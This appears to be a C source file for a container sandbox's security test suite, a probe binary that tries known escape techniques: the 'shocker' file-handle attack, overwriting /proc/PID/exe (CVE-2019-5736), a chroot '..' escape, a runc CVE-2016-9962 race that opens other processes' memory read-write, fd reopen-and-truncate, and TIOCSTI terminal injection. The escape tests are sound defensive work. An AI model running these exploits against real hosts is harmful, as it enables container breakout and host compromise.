/*
 * box-probe: attempts the escape suite needs that busybox cannot make. Built static by the
 * project's Zig (test/security/probe.ts) and copied into the container's rootfs.
 *
 *   probe syscall NR [ARG...]   raw syscall; prints "ok N" or "errno N"
 *   probe i386 NR [ARG...]      the same through int 0x80 (the i386 table)
 *   probe handle PATH           name_to_handle_at, then open_by_handle_at (the "shocker" attack)
 *   probe exe PID               open /proc/PID/exe for writing (CVE-2019-5736)
 *   probe chroot-escape PATH    chroot into a subdirectory, climb with "..", chroot ".", open PATH
 *   probe keyring               the id of the session keyring
 *   probe race-exec SECONDS STOP  the runc CVE-2016-9962 racer, until SECONDS pass or file STOP exists:
 *                               spins on the newest pids of its PID namespace, opening /proc/PID/
 *                               environ, mem (read-write) and fd of each; prints "caught HOW PID" for a
 *                               process caught before its execve (its environ still the helper's, its
 *                               exe or an fd the helper's memfd), "unconfined PID" when such a process
 *                               had no seccomp filter or no no_new_privs yet, and at the end
 *                               "opened=N caught=M unconfined=K" (opened: processes whose environ it read)
 *   probe seals PID             F_GET_SEALS of /proc/PID/exe, in hex
 *   probe reopen FD             reopens /proc/self/fd/FD read-write: what it reads, whether it can
 *                               write at offset 0 and truncate; reports on stderr (stdout for FD 2)
 *   probe tiocsti FD            pushes "X" into the input of the terminal on FD (TIOCSTI)
 *   probe tioclinux FD          asks the console on FD to paste its selection (TIOCLINUX 3)
 *   probe nest N NAME           N nested directories NAME/NAME/..., made relative to each other
 *                               (a shell's cd stops at PATH_MAX); prints the depth reached
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int result(long ret)
{
	if (ret < 0) {
		printf("errno %d\n", errno);
		return 1;
	}
	printf("ok %ld\n", ret);
	return 0;
}

static long arg(int argc, char **argv, int i)
{
	return i < argc ? strtol(argv[i], NULL, 0) : 0;
}

static long i386_syscall(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	if (ret < 0 && ret > -4096) {
		errno = (int)-ret;
		return -1;
	}
	return ret;
}

static long last_pid(void)
{
	char buf[32] = { 0 };
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 ? strtol(buf, NULL, 10) : -1;
}

/* Whether a process runs without seccomp or no_new_privs, from its status. */
static int unconfined(long pid)
{
	char path[64], buf[4096];
	snprintf(path, sizeof(path), "/proc/%ld/status", pid);
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	return strstr(buf, "\nSeccomp:\t0") != NULL || strstr(buf, "\nNoNewPrivs:\t0") != NULL;
}

/* A process caught before its execve: is it less confined than the container? */
static void caught(long pid, const char *how, long *n_caught, long *n_unconfined)
{
	(*n_caught)++;
	printf("caught %s %ld\n", how, pid);
	if (unconfined(pid)) {
		(*n_unconfined)++;
		printf("unconfined %ld\n", pid);
	}
}

/* One try at one pid: its environ (still the helper's before its execve), its memory read-write
 * (its exe still the helper), its fds (the helper's memfd among them). */
static void try_pid(long pid, long *opened, long *n_caught, long *n_unconfined)
{
	char path[64], buf[8192];
	snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
	int fd = open(path, O_RDONLY);
	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n > 0) {
			buf[n] = 0;
			(*opened)++;
			for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1)
				if (strncmp(buf + i, "BOX_ROOT=", 9) == 0)
					caught(pid, "environ", n_caught, n_unconfined);
		}
	}
	snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
	fd = open(path, O_RDWR);
	if (fd >= 0) {
		char exe[256] = { 0 };
		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
		if (readlink(path, exe, sizeof(exe) - 1) > 0 && (strstr(exe, "box-helper") || strstr(exe, "memfd:")))
			caught(pid, "mem", n_caught, n_unconfined);
		close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%ld/fd", pid);
	DIR *d = opendir(path);
	if (d) {
		for (struct dirent *e; (e = readdir(d)) != NULL;) {
			char link[300] = { 0 }, lpath[300];
			snprintf(lpath, sizeof(lpath), "%s/%s", path, e->d_name);
			if (e->d_name[0] != '.' && readlink(lpath, link, sizeof(link) - 1) > 0 && strstr(link, "memfd:")) {
				caught(pid, "fd", n_caught, n_unconfined);
				break;
			}
		}
		closedir(d);
	}
}

static int race_exec(int seconds, const char *stop)
{
	long opened = 0, n_caught = 0, n_unconfined = 0, self = getpid(), round = 0;
	time_t end = time(NULL) + seconds;
	struct stat st;
	setvbuf(stdout, NULL, _IONBF, 0);
	printf("racing\n");
	while (time(NULL) < end && (++round % 64 != 0 || stat(stop, &st) < 0)) {
		long last = last_pid();
		for (long pid = last - 1; pid <= last + 2; pid++)
			if (pid > 1 && pid != self)
				try_pid(pid, &opened, &n_caught, &n_unconfined);
	}
	printf("opened=%ld caught=%ld unconfined=%ld\n", opened, n_caught, n_unconfined);
	return 0;
}

/* Reports go to fd 2, or to fd 1 when fd 2 is the one attacked. */
static int reopen(const char *fdnum)
{
	char path[64], buf[4096];
	int report = atoi(fdnum) == 2 ? 1 : 2;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", fdnum);
	int fd = open(path, O_RDWR | O_NONBLOCK);
	if (fd < 0) {
		dprintf(report, "open errno %d\n", errno);
		return 1;
	}
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	dprintf(report, "read %zd %.*s\n", n, n > 0 ? (int)n : 0, buf);
	ssize_t w = pwrite(fd, "HACKED", 6, 0);
	dprintf(report, "pwrite %s %d\n", w < 0 ? "errno" : "ok", w < 0 ? errno : (int)w);
	dprintf(report, "ftruncate %s\n", ftruncate(fd, 0) < 0 ? "errno" : "ok");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *what = argv[1];
	if (strcmp(what, "syscall") == 0 && argc >= 3) {
		return result(syscall(arg(argc, argv, 2), arg(argc, argv, 3), arg(argc, argv, 4), arg(argc, argv, 5),
				      arg(argc, argv, 6), arg(argc, argv, 7), arg(argc, argv, 8)));
	}
	if (strcmp(what, "i386") == 0 && argc >= 3)
		return result(i386_syscall(arg(argc, argv, 2), arg(argc, argv, 3), arg(argc, argv, 4), arg(argc, argv, 5)));
	if (strcmp(what, "handle") == 0 && argc >= 3) {
		struct file_handle *fh = malloc(sizeof(*fh) + 128);
		int mount_id;
		fh->handle_bytes = 128;
		if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[2], fh, &mount_id, 0) < 0)
			return result(-1);
		int mfd = open("/", O_RDONLY | O_DIRECTORY);
		return result(syscall(SYS_open_by_handle_at, mfd, fh, O_RDONLY));
	}
	if (strcmp(what, "exe") == 0 && argc >= 3) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%s/exe", argv[2]);
		int fd = open(path, O_WRONLY);
		if (fd >= 0)
			return result(write(fd, "X", 1));
		/* The other way in: an O_PATH fd, reopened for writing through /proc/self/fd. */
		int pfd = open(path, O_PATH);
		if (pfd < 0)
			return result(-1);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", pfd);
		fd = open(path, O_RDWR);
		return result(fd < 0 ? -1 : write(fd, "X", 1));
	}
	if (strcmp(what, "chroot-escape") == 0 && argc >= 3) {
		mkdir("/box-probe-jail", 0700);
		if (chroot("/box-probe-jail") < 0)
			return result(-1);
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") < 0)
			return result(-1);
		return result(open(argv[2], O_RDONLY));
	}
	if (strcmp(what, "race-exec") == 0 && argc >= 4)
		return race_exec(atoi(argv[2]), argv[3]);
	if (strcmp(what, "seals") == 0 && argc >= 3) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%s/exe", argv[2]);
		int fd = open(path, O_RDONLY);
		if (fd < 0)
			return result(-1);
		int seals = fcntl(fd, F_GET_SEALS);
		if (seals < 0)
			return result(-1);
		printf("seals %#x\n", seals);
		return 0;
	}
	if (strcmp(what, "reopen") == 0 && argc >= 3)
		return reopen(argv[2]);
	if (strcmp(what, "tiocsti") == 0 && argc >= 3) {
		char c = 'X';
		return result(ioctl(atoi(argv[2]), TIOCSTI, &c));
	}
	if (strcmp(what, "tioclinux") == 0 && argc >= 3) {
		char sub = 3;
		return result(ioctl(atoi(argv[2]), TIOCLINUX, &sub));
	}
	if (strcmp(what, "nest") == 0 && argc >= 4) {
		int depth = 0;
		for (int n = atoi(argv[2]); depth < n; depth++)
			if (mkdir(argv[3], 0755) < 0 || chdir(argv[3]) < 0)
				break;
		printf("depth %d\n", depth);
		return 0;
	}
	if (strcmp(what, "keyring") == 0)
		return result(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0));
	return 2;
}
